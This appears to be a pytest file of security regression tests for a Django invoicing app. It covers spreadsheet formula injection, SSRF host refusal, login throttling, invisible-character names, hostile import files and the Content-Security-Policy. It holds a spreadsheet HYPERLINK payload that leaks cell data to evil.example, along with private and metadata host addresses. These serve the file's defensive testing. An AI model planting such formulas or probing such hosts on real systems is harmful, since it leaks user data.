"""Issue 14, "should fix" and "also": hostile input is refused cheaply and clearly.

One idea per test; each fails on the code before the fix.
"""

from __future__ import annotations

import csv
import io
import json
import socket
from decimal import Decimal as D

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from recurent.common.csvsafe import safe_cell
from recurent.payments import reports
from tests.factories import local
from tests.mail.conftest import mail_world, smtp_server  # noqa: F401
from tests.payments.helpers import issued

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

# --- 8. formula injection in CSV / XLSX ------------------------------------------------------


def test_a_client_named_like_a_formula_is_text_in_the_aging_csv_and_xlsx(world):
    from tests import factories as f

    cl = f.client(world.company, name=EVIL)
    issued(world, client=cl, periods=2)
    with translation.override("ro"):
        t = reports.aging(world.company.pk, local(2026, 5, 20))
    rows = list(csv.reader(io.StringIO(reports.to_csv(t).decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in rows if EVIL in r[0])
    assert row[0] == "'" + EVIL
    ws = load_workbook(io.BytesIO(reports.to_xlsx(t))).active
    cells = [
        c for r in ws.iter_rows() for c in r if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert cells and all(c.data_type == "s" for c in cells)


def test_negative_amounts_stay_numbers_in_the_statement(world):
    from recurent.payments.services import payment_record

    cl, [jan] = issued(world)
    payment_record(company=world.company, client=cl, date=local(2026, 2, 10).date(), amount="150",
                   allocations=[(jan, "121")], as_of=local(2026, 2, 10), user=world.user)  # fmt: skip
    with translation.override("ro"):
        t = reports.client_statement(cl, local(2026, 2, 1).date(), local(2026, 3, 31).date())
    text = reports.to_csv(t).decode("utf-8-sig")
    assert ";-29.00" in text and "'-29" not in text
    ws = load_workbook(io.BytesIO(reports.to_xlsx(t))).active
    assert ws.cell(row=ws.max_row, column=6).value == D("-29.00")


def test_every_formula_start_is_neutralised_and_other_values_are_kept():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert (
        safe_cell(D("-5")) == D("-5")
        and safe_cell(-5) == -5
        and safe_cell("Acme SRL") == "Acme SRL"
    )


# --- 9. SMTP hosts follow the webhook address policy ---------------------------------------


@pytest.fixture
def strict_hosts(settings):
    """The production default: only public internet addresses."""
    settings.RECURENT_WEBHOOKS_ALLOW_PRIVATE = False
    settings.RECURENT_ALLOW_PRIVATE_HOSTS = False
    return settings


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "10.1.2.3", "169.254.169.254", "[::1]"])
def test_smtp_settings_refuse_loopback_and_private_hosts(world, strict_hosts, host):
    from recurent.mail.models import SmtpSettings
    from recurent.mail.services import smtp_settings_save

    with pytest.raises(ValidationError) as e:
        smtp_settings_save(
            company=world.company, host=host, from_email="f@demo.ro", security="none"
        )
    assert "host" in e.value.message_dict
    assert not SmtpSettings.objects.filter(company=world.company).exists()


def test_the_general_setting_allows_private_hosts_for_smtp_and_webhooks(world, strict_hosts):
    from recurent.api.webhooks import endpoint_create
    from recurent.mail.services import smtp_settings_save

    strict_hosts.RECURENT_ALLOW_PRIVATE_HOSTS = True
    assert smtp_settings_save(company=world.company, host="127.0.0.1", from_email="f@demo.ro").pk
    assert endpoint_create(
        company=world.company, url="http://127.0.0.1:9/hook", events=["*"], as_of=local(2026, 1, 1)
    )


def test_the_sender_refuses_a_host_that_became_private(mail_world, strict_hosts):  # noqa: F811
    from recurent.mail import sender
    from recurent.mail.models import SmtpSettings

    cfg = SmtpSettings.objects.get(company=mail_world.company)  # saved while allowed
    with pytest.raises(sender.Temporary, match="not public"):
        sender.connect(cfg)


def test_the_test_button_says_the_same_for_a_closed_and_an_open_port(world, smtp_server):  # noqa: F811
    """A closed port, a listener that is not SMTP and a server that refuses the login answer
    alike: the button is no port scanner."""
    from django.test import Client as Browser

    from recurent.mail.services import smtp_settings_save
    from tests.mail.conftest import free_port

    world.user.email = "admin@demo.ro"
    world.user.save()
    browser = Browser()
    browser.force_login(world.user)
    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(1)  # accepts, never greets
    answers = []
    try:
        for port, username in (
            (free_port(), ""),  # closed
            (silent.getsockname()[1], ""),  # open, not SMTP
            (smtp_server.port, "someone"),  # SMTP without AUTH: login refused
        ):
            smtp_settings_save(company=world.company, host="127.0.0.1", port=port, security="none",
                               username=username, password="x", from_email="f@demo.ro", timeout=1)  # fmt: skip
            r = browser.post(reverse("mail:settings-test"), follow=True)
            assert r.status_code == 200
            page = r.content.decode()
            alert = page[page.index('id="test-answer"') :]
            answers.append(alert[: alert.index("</div>")])
    finally:
        silent.close()
    assert answers[0] == answers[1] == answers[2]
    assert str(port) not in answers[0] and "Refused" not in answers[0]


# --- 11. login throttling by account and by address ----------------------------------------


def _login(browser, username, password, ip="203.0.113.7"):
    return browser.post(
        reverse("web:login"), {"username": username, "password": password}, REMOTE_ADDR=ip
    )


def test_a_hundred_wrong_passwords_then_the_right_one_is_refused(world):
    from django.conf import settings
    from django.test import Client as Browser

    browser = Browser()
    name = world.user.username
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert _login(browser, name, "wrong").status_code == 200
    assert _login(browser, name, "wrong").status_code == 429  # the limit reached
    for _ in range(90):
        _login(browser, name, "wrong")
    r = _login(browser, name, "pw-" + name)
    assert r.status_code == 429
    assert "Prea multe autentificări eșuate" in r.content.decode()
    assert "_auth_user_id" not in browser.session
    # The account, not only the address: another address is refused too.
    assert _login(Browser(), name, "pw-" + name, ip="198.51.100.9").status_code == 429


def test_wrong_passwords_for_many_accounts_from_one_address_lock_that_address(world):
    from django.conf import settings
    from django.test import Client as Browser

    browser = Browser()
    for i in range(settings.AXES_FAILURE_LIMIT):
        _login(browser, f"guess{i}", "wrong")
    assert _login(browser, world.user.username, "pw-" + world.user.username).status_code == 429
    ok = _login(Browser(), world.user.username, "pw-" + world.user.username, ip="198.51.100.9")
    assert ok.status_code == 302


def test_a_success_before_the_limit_clears_the_count(world):
    from django.conf import settings
    from django.test import Client as Browser

    name = world.user.username
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        _login(Browser(), name, "wrong")
    assert _login(Browser(), name, "pw-" + name).status_code == 302
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        _login(Browser(), name, "wrong")
    assert _login(Browser(), name, "pw-" + name).status_code == 302


def test_an_administrator_unlocks_a_locked_member(world):
    from django.conf import settings
    from django.test import Client as Browser

    from recurent.companies.models import Membership
    from recurent.companies.services import membership_grant
    from tests import factories as f

    member = f.user()
    membership_grant(user=member, company=world.company, role="accountant")
    for _ in range(settings.AXES_FAILURE_LIMIT):
        _login(Browser(), member.username, "wrong", ip="198.51.100.20")
    assert _login(Browser(), member.username, "pw-" + member.username).status_code == 429
    admin = Browser()
    admin.force_login(world.user)
    page = admin.get(reverse("web:users")).content.decode()
    m = Membership.objects.get(user=member, company=world.company)
    assert reverse("web:user-unlock", args=[m.pk]) in page
    assert admin.post(reverse("web:user-unlock", args=[m.pk])).status_code == 302
    assert _login(Browser(), member.username, "pw-" + member.username).status_code == 302


# --- 12. the application's own emails: invitation and password reset -----------------------


@pytest.fixture
def no_test_outbox(settings):
    """The production email backend with no installation server (RECURENT_EMAIL_HOST unset)."""
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST = ""
    return settings


def _invite(world, email="ana@firma.ro"):
    from django.test import Client as Browser

    admin = Browser()
    admin.force_login(world.user)
    return admin.post(reverse("web:users"), {"email": email, "role": "accountant"}, follow=True)


def test_an_invitation_without_a_mail_server_keeps_the_user_and_shows_the_link(
    world, no_test_outbox
):
    from django.contrib.auth import get_user_model
    from django.test import Client as Browser

    from recurent.companies.models import Membership

    r = _invite(world)
    assert r.status_code == 200
    page = r.content.decode()
    assert "nu a putut fi trimis" in page
    user = get_user_model().objects.get(email="ana@firma.ro")
    assert Membership.objects.filter(user=user, company=world.company).exists()
    link = next(w for w in page.replace("<", " ").split() if "/password/reset/" in w)
    path = link.split("://", 1)[-1].split("/", 1)[1]
    assert Browser().get("/" + path, follow=True).status_code == 200


def test_an_invitation_leaves_through_the_companys_server(mail_world, no_test_outbox):  # noqa: F811
    r = _invite(mail_world)
    assert r.status_code == 200 and "a fost invitat" in r.content.decode()
    [msg] = mail_world.smtp.received
    assert msg.rcpt_tos == ["ana@firma.ro"] and "/password/reset/" in msg.message.get_content()


def test_an_invitation_leaves_through_the_installations_server(world, smtp_server, no_test_outbox):  # noqa: F811
    no_test_outbox.EMAIL_HOST, no_test_outbox.EMAIL_PORT = "127.0.0.1", smtp_server.port
    no_test_outbox.EMAIL_USE_TLS = False
    _invite(world)
    [msg] = smtp_server.received
    assert msg.rcpt_tos == ["ana@firma.ro"]


def test_an_invitation_through_a_dead_server_is_said_not_a_500(world, no_test_outbox):
    from recurent.mail.services import smtp_settings_save
    from tests.mail.conftest import free_port

    smtp_settings_save(company=world.company, host="127.0.0.1", port=free_port(), security="none",
                       from_email="f@demo.ro", timeout=2)  # fmt: skip
    r = _invite(world)
    assert r.status_code == 200 and "nu a putut fi trimis" in r.content.decode()


def test_a_password_reset_leaves_through_the_companys_server(mail_world, no_test_outbox):  # noqa: F811
    from django.test import Client as Browser

    mail_world.user.email = "admin@demo.ro"
    mail_world.user.save()
    r = Browser().post(reverse("web:password-reset"), {"email": "admin@demo.ro"})
    assert r.status_code == 302
    [msg] = mail_world.smtp.received
    assert msg.rcpt_tos == ["admin@demo.ro"] and "/password/reset/" in msg.message.get_content()


def test_a_password_reset_that_cannot_be_sent_says_so(world, no_test_outbox):
    from django.test import Client as Browser

    world.user.email = "admin@demo.ro"
    world.user.save()
    r = Browser().post(reverse("web:password-reset"), {"email": "admin@demo.ro"})
    assert r.status_code == 503
    assert "nu a putut fi trimis" in r.content.decode()


# --- also: `recurent serve` is a production WSGI server -------------------------------------


def test_recurent_serve_answers_60_concurrent_posts(tmp_path):
    """wsgiref (backlog 5) reset connections here; waitress queues them and answers each."""
    import http.client
    import os
    import subprocess
    import sys
    import threading
    import time

    from tests.mail.conftest import free_port

    port = free_port()
    env = dict(os.environ, DJANGO_SETTINGS_MODULE="recurent.settings.dev",
               RECURENT_DATA_DIR=str(tmp_path), DATABASE_URL=f"sqlite:///{tmp_path}/db.sqlite3")  # fmt: skip
    proc = subprocess.Popen(
        [sys.executable, "-m", "recurent.cli", "serve", f"127.0.0.1:{port}", "--no-worker"],
        env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                assert proc.poll() is None, proc.stdout.read() if proc.stdout else ""
                time.sleep(0.3)
        body = json.dumps({"code": "P", "name": "x" * 4000})
        results: list[object] = []
        start = threading.Barrier(60)

        def post() -> None:
            start.wait()
            try:
                conn = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
                conn.request("POST", "/api/v1/products", body, {"Content-Type": "application/json"})
                results.append(conn.getresponse().status)
                conn.close()
            except OSError as e:
                results.append(e)

        threads = [threading.Thread(target=post) for _ in range(60)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(90)
        assert results == [401] * 60  # no token: every request answered, none reset
    finally:
        proc.terminate()
        proc.wait(30)


# --- also: names that cannot be seen are refused -----------------------------------------------

INVISIBLE = ["\u200b\u200b", "\u202e", "\u2066\u2069", "\u00a0\u3000\u2003", "\ufeff", "\u3164"]


@pytest.mark.parametrize("name", INVISIBLE)
def test_a_client_product_or_company_named_only_by_invisible_characters_is_refused(world, name):
    from recurent.catalog.models import Product
    from recurent.clients.models import Client
    from recurent.companies.services import company_update
    from tests import factories as f

    with pytest.raises(ValidationError) as e:
        f.client(world.company, name=name)
    assert "name" in e.value.message_dict
    with pytest.raises(ValidationError) as e:
        f.product(world.company, name=name)
    assert "name" in e.value.message_dict
    with pytest.raises(ValidationError) as e:
        company_update(company=world.company, legal_name=name)
    assert "legal_name" in e.value.message_dict
    assert not Client.objects.exists() and not Product.objects.exists()


def test_an_invited_users_invisible_name_is_refused_with_a_message(world):
    from django.contrib.auth import get_user_model
    from django.test import Client as Browser

    admin = Browser()
    admin.force_login(world.user)
    r = admin.post(reverse("web:users"), {"email": "x@firma.ro", "role": "viewer",
                                          "first_name": "\u200b\u202e", "password": "Parola-lunga-42"})  # fmt: skip
    assert r.status_code == 400
    assert "caractere invizibile" in r.content.decode()
    assert not get_user_model().objects.filter(email="x@firma.ro").exists()


def test_a_name_with_visible_letters_and_a_joiner_is_kept(world):
    from tests import factories as f

    assert f.client(world.company, name="Ana\u200dMaria SRL").name == "Ana\u200dMaria SRL"


# --- also: `recurent import` refuses hostile files with positions, writing nothing ----------


def _example():
    import copy
    from pathlib import Path

    path = Path(__file__).resolve().parents[2] / "docs" / "examples" / "import.json"
    return copy.deepcopy(json.loads(path.read_text()))


def _import_file(tmp_path, raw: bytes):
    from django.core.management import call_command
    from django.core.management.base import CommandError

    from tests import factories as f

    f.user("boss", is_superuser=True)
    path = tmp_path / "in.json"
    path.write_bytes(raw)
    err = io.StringIO()
    with pytest.raises(CommandError) as e:
        call_command("import", str(path), stderr=err)
    return str(e.value) + "\n" + err.getvalue()


def _nothing_written():
    from recurent.catalog.models import Product
    from recurent.clients.models import Client
    from recurent.companies.models import Company
    from recurent.contracts.models import Contract

    return not (Company.objects.exists() or Product.objects.exists() or Client.objects.exists()
                or Contract.objects.exists())  # fmt: skip


@pytest.mark.parametrize(
    ("raw", "says"),
    [
        ('{"company": {"legal_name": "Firm\u0103"}}'.encode("cp1250"), "line 1, column 33: not UTF-8"),
        (b"[" * 100000 + b"]" * 100000, "nested too deeply"),
        (b'{"company": {"x": ' + b"[" * 40 + b"]" * 40 + b"}}", "nested too deeply"),
        (b'{"series": [{"code": "A", "next_number": 1e400}]}', "too large"),
        (b'{"series": [{"code": "A", "next_number": 99999999999999999999999}]}', "series[0].next_number"),
        (b'{"company": {"legal_name": "A\\u0000B"}}', "company.legal_name: contains a NUL character"),
        (b'{"version": NaN}', "NaN is not a number"),
    ],
    ids=["cp1250", "deep-100000", "deep-40", "float-overflow", "int-overflow", "nul", "nan"],
)  # fmt: skip
def test_a_hostile_file_is_a_positioned_error_not_a_traceback(db, tmp_path, raw, says):
    out = _import_file(tmp_path, raw)
    assert says in out and "Traceback" not in out
    assert _nothing_written()


def test_a_contract_line_price_out_of_range_is_a_positioned_error(db, tmp_path):
    data = _example()
    data["contracts"][0]["lines"][0]["unit_price"] = "1e30"
    out = _import_file(tmp_path, json.dumps(data).encode())
    assert "contracts[0].lines[1].unit_price" in out and "Traceback" not in out
    assert _nothing_written()


def test_duplicate_contract_numbers_client_refs_and_product_codes_are_positioned_errors(
    db, tmp_path
):
    data = _example()
    data["products"].append(dict(data["products"][0], name="Altul"))
    data["clients"].append(dict(data["clients"][1], tax_id="", name="Alt client"))
    data["contracts"].append(dict(data["contracts"][0]))
    out = _import_file(tmp_path, json.dumps(data).encode())
    n_p, n_c, n_k = len(data["products"]) - 1, len(data["clients"]) - 1, len(data["contracts"]) - 1
    assert f"products[{n_p}].code" in out and "is already in products[0]" in out
    assert f"clients[{n_c}].ref" in out
    assert f"contracts[{n_k}].number" in out and "is already in contracts[0]" in out
    assert "Traceback" not in out and _nothing_written()


def test_a_contract_number_the_company_already_has_is_a_positioned_error(db, tmp_path):
    from django.core.management import call_command

    from recurent.contracts.models import Contract
    from tests import factories as f

    f.user("boss", is_superuser=True)
    first = tmp_path / "first.json"
    first.write_text(json.dumps(_example()))
    call_command("import", str(first), stdout=io.StringIO())
    again = _example()
    again["products"], again["clients"] = [], again["clients"]
    path = tmp_path / "again.json"
    path.write_text(json.dumps(again))
    from django.core.management.base import CommandError

    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import", str(path), stderr=err)
    assert "contracts[0].number: the company has a contract" in err.getvalue()
    assert Contract.objects.count() == len(again["contracts"])


# --- also: invoice emails wait for their documents, or say why they went without ------------


def test_an_email_that_waited_too_long_says_why_it_has_no_documents(mail_world):  # noqa: F811
    from datetime import timedelta

    from recurent.mail.models import OutboxMessage, OutboxState
    from recurent.mail.sender import send_pending
    from tests.mail.helpers import issue

    inv = issue(mail_world)[0]
    assert send_pending(limit=10, as_of=inv.issued_at + timedelta(minutes=11)) == 1
    msg = mail_world.smtp.received[0].message
    text = msg.get_body(("plain",)).get_content()
    assert "nu sunt atașate" in text and "/portal/" in text
    assert "nu sunt atașate" in msg.get_body(("html",)).get_content()
    m = OutboxMessage.objects.get()
    assert m.state == OutboxState.SENT and "sent without the PDF/XML" in m.last_response


def test_webhook_deliveries_do_not_wait_behind_document_rendering():
    from recurent.worker.tasks import TASKS

    order = [name for name, _fn in TASKS]
    assert order.index("webhooks") < order.index("documents")


def test_invoices_whose_email_waits_are_rendered_first(mail_world):  # noqa: F811
    from recurent.documents.models import InvoiceDocument
    from recurent.documents.services import render_pending
    from tests.mail.helpers import issue

    quiet = issue(mail_world, auto_email=False)[0]  # the older one, nobody waits for it
    emailed = [i for i in issue(mail_world) if i.pk != quiet.pk][0]
    assert quiet.pk < emailed.pk
    assert render_pending(limit=1, as_of=emailed.issued_at) == 1
    assert set(InvoiceDocument.objects.values_list("invoice_id", flat=True)) == {emailed.pk}
    assert render_pending(limit=1, as_of=emailed.issued_at) == 1  # then the others
    assert InvoiceDocument.objects.filter(invoice=quiet).exists()


# --- also: Content-Security-Policy -----------------------------------------------------------


def test_every_page_has_a_policy_and_runs_only_its_own_scripts(world):
    import re

    from django.test import Client as Browser

    from recurent.clients import portal_links as links
    from tests import factories as f

    world.user.is_staff = world.user.is_superuser = True
    world.user.save()
    cl = f.client(world.company)
    f.contract(world.company, issuer=world.user, client_=cl)
    browser = Browser()
    browser.force_login(world.user)
    pages = [
        reverse("web:dashboard"), reverse("web:contract-add"), reverse("web:product-add"),
        reverse("web:users"), reverse("documents:settings"), reverse("payments:mandates"),
        reverse("portal:home", kwargs={"token": links.portal_token(cl.pk)}), "/api/v1/docs",
        "/admin/",
    ]  # fmt: skip
    seen = 0
    for url in pages + [reverse("web:login")]:
        r = (browser if url != reverse("web:login") else Browser()).get(url)
        assert r.status_code == 200, url
        csp = r["Content-Security-Policy"]
        assert "default-src 'self'" in csp and "unsafe-eval" not in csp
        nonce = re.search(r"'nonce-([^']+)'", csp)[1]
        assert "script-src 'self' 'nonce-" in csp and "script-src 'self' 'unsafe-inline'" not in csp
        html = r.content.decode()
        for tag in re.findall(r"<script\b[^>]*>", html):
            if "src=" in tag or "application/json" in tag:
                continue
            assert f'nonce="{nonce}"' in tag, (url, tag)
            seen += 1
        assert not re.search(r"\son[a-z]+=\"", html), (url, re.search(r"\son[a-z]+=\"[^\"]*", html))
    assert seen >= 2  # the dashboard's and the contract form's own scripts carry the nonce
